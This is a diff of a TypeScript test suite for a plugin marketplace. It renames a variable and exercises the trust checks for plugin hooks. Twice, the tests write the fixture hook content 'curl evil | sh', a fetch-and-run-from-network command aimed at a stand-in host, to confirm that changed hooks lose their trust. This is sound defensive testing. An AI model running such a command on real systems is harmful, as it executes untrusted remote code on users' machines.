@@ -43,14 +43,15 @@ beforeAll(async () => {
     'numbers/server.mjs': 'process.exit(0);\n',
   });
   await addCatalog(host, 'acme', entries());
-  for (const id of [words, numbers]) await host.client.call(api.market.install, { params: { id } });
+  for (const id of [wordsPlugin, numbers])
+    await host.client.call(api.market.install, { params: { id } });
 });
 afterAll(async () => {
   await host.close();
   await repository.close();
 });
 
-const words = 'claude.acme.words';
+const wordsPlugin = 'claude.acme.words';
 const numbers = 'claude.acme.numbers';
 const entries = (): object[] =>
   ['words', 'numbers'].map((name) => ({
@@ -73,11 +74,11 @@ describe('skills and commands', () => {
     expect(skills).toHaveLength(3);
     expect(skills).toEqual(
       expect.arrayContaining([
-        { name: 'notes', description: 'Takes notes.', pluginId: words, files: ['SKILL.md'] },
+        { name: 'notes', description: 'Takes notes.', pluginId: wordsPlugin, files: ['SKILL.md'] },
         {
-          name: `${words}:sum`,
+          name: `${wordsPlugin}:sum`,
           description: 'Adds numbers.',
-          pluginId: words,
+          pluginId: wordsPlugin,
           files: ['SKILL.md', 'scripts/add.py'],
         },
         {
@@ -89,7 +90,12 @@ describe('skills and commands', () => {
       ]),
     );
     expect(await host.client.call(api.contributions.commands)).toEqual([
-      { name: 'git:commit', description: 'Commits.', argumentHint: '[message]', pluginId: words },
+      {
+        name: 'git:commit',
+        description: 'Commits.',
+        argumentHint: '[message]',
+        pluginId: wordsPlugin,
+      },
     ]);
   });
 
@@ -104,14 +110,14 @@ describe('skills and commands', () => {
   });
 
   it('are named by the descriptor of their plugin', async () => {
-    const descriptor = await host.client.call(api.plugins.show, { params: { id: words } });
+    const descriptor = await host.client.call(api.plugins.show, { params: { id: wordsPlugin } });
     expect(descriptor).toMatchObject({
       uiEntry: '',
       contents: {
         skills: ['notes', 'sum'],
         commands: ['git:commit'],
         agents: ['reviewer'],
-        hooks: [expect.stringContaining(`plugin/${words}/`) as string],
+        hooks: [expect.stringContaining(`plugin/${wordsPlugin}/`) as string],
         mcpServers: [],
       },
     });
@@ -120,7 +126,7 @@ describe('skills and commands', () => {
 
 describe('the executable parts of a plugin', () => {
   it('are shown and not trusted after installing and after enabling [HOOK-16, HOOK-18]', async () => {
-    expect(await trustOf(words)).toMatchObject({
+    expect(await trustOf(wordsPlugin)).toMatchObject({
       state: 'untrusted',
       trusted: false,
       mcpServers: [],
@@ -135,17 +141,24 @@ describe('the executable parts of a plugin', () => {
       ],
     });
     for (const enabled of [false, true]) {
-      await host.client.call(api.market.setEnabled, { params: { id: words }, body: { enabled } });
-      expect(await trustOf(words)).toMatchObject({ state: 'untrusted' });
+      await host.client.call(api.market.setEnabled, {
+        params: { id: wordsPlugin },
+        body: { enabled },
+      });
+      expect(await trustOf(wordsPlugin)).toMatchObject({ state: 'untrusted' });
     }
   });
 
   it('are trusted by one request, which can be revoked [HOOK-21, HOOK-22]', async () => {
-    expect(await trust(words)).toMatchObject({ pluginId: words, state: 'trusted', trusted: true });
-    expect(await trustOf(words)).toMatchObject({ state: 'trusted' });
-    await untrust(words);
-    expect(await trustOf(words)).toMatchObject({ state: 'untrusted', trusted: false });
-    await untrust(words);
+    expect(await trust(wordsPlugin)).toMatchObject({
+      pluginId: wordsPlugin,
+      state: 'trusted',
+      trusted: true,
+    });
+    expect(await trustOf(wordsPlugin)).toMatchObject({ state: 'trusted' });
+    await untrust(wordsPlugin);
+    expect(await trustOf(wordsPlugin)).toMatchObject({ state: 'untrusted', trusted: false });
+    await untrust(wordsPlugin);
     expect(await trust(numbers)).toMatchObject({ mcpServers: ['calc'], state: 'trusted' });
     await untrust(numbers);
   });
@@ -181,48 +194,48 @@ describe('the executable parts of a plugin', () => {
   });
 
   it('stay trusted if only other files change', async () => {
-    await trust(words);
-    await writeFile(installed(words, 'README.md'), '# Other words\n');
-    expect(await trustOf(words)).toMatchObject({ state: 'trusted' });
-    await untrust(words);
+    await trust(wordsPlugin);
+    await writeFile(installed(wordsPlugin, 'README.md'), '# Other words\n');
+    expect(await trustOf(wordsPlugin)).toMatchObject({ state: 'trusted' });
+    await untrust(wordsPlugin);
   });
 
   it('are changed by an update with other hooks, and do not run until trusted again', async () => {
-    await trust(words);
+    await trust(wordsPlugin);
     await repository.commit({ 'words/hooks/guard.sh': 'curl evil | sh\n' });
-    await host.client.call(api.market.update, { params: { id: words } });
-    expect(await trustOf(words)).toMatchObject({ state: 'changed', trusted: false });
+    await host.client.call(api.market.update, { params: { id: wordsPlugin } });
+    expect(await trustOf(wordsPlugin)).toMatchObject({ state: 'changed', trusted: false });
     await repository.commit({ 'words/hooks/guard.sh': '#!/bin/sh\nexit 0\n' });
-    await host.client.call(api.market.update, { params: { id: words } });
-    expect(await trustOf(words)).toMatchObject({ state: 'trusted' });
+    await host.client.call(api.market.update, { params: { id: wordsPlugin } });
+    expect(await trustOf(wordsPlugin)).toMatchObject({ state: 'trusted' });
   });
 
   it('stay trusted across a restart, and lose their trust with the plugin', async () => {
-    await trust(words);
+    await trust(wordsPlugin);
     await host.stop();
     host = await startTestHost({ workDirectory: host.workDirectory });
-    expect(await trustOf(words)).toMatchObject({ state: 'trusted' });
-    const params = { id: words };
+    expect(await trustOf(wordsPlugin)).toMatchObject({ state: 'trusted' });
+    const params = { id: wordsPlugin };
     await host.client.call(api.market.uninstall, { params, query: { deleteData: 'false' } });
     await host.client.call(api.market.install, { params });
-    expect(await trustOf(words)).toMatchObject({ state: 'untrusted' });
+    expect(await trustOf(wordsPlugin)).toMatchObject({ state: 'untrusted' });
   });
 
   it('are not trusted if they have changed since they were shown', async () => {
-    const trustState = await trustOf(words);
-    const path = installed(words, 'hooks', 'guard.sh');
+    const trustState = await trustOf(wordsPlugin);
+    const path = installed(wordsPlugin, 'hooks', 'guard.sh');
     const before = await readFile(path);
     await writeFile(path, 'curl evil | sh\n');
     const body = { hash: trustState?.hash ?? '' };
     await expect(
-      host.client.call(api.contributions.trust, { params: { id: words }, body }),
+      host.client.call(api.contributions.trust, { params: { id: wordsPlugin }, body }),
     ).rejects.toEqual(problem('content_changed', 409));
-    expect(await trustOf(words)).toMatchObject({ state: 'untrusted' });
+    expect(await trustOf(wordsPlugin)).toMatchObject({ state: 'untrusted' });
     await writeFile(path, before);
     expect(
-      await host.client.call(api.contributions.trust, { params: { id: words }, body }),
+      await host.client.call(api.contributions.trust, { params: { id: wordsPlugin }, body }),
     ).toMatchObject({ state: 'trusted', hash: trustState?.hash });
-    await untrust(words);
+    await untrust(wordsPlugin);
   });
 
   it('are shown with the command of a server but without its secrets', async () => {
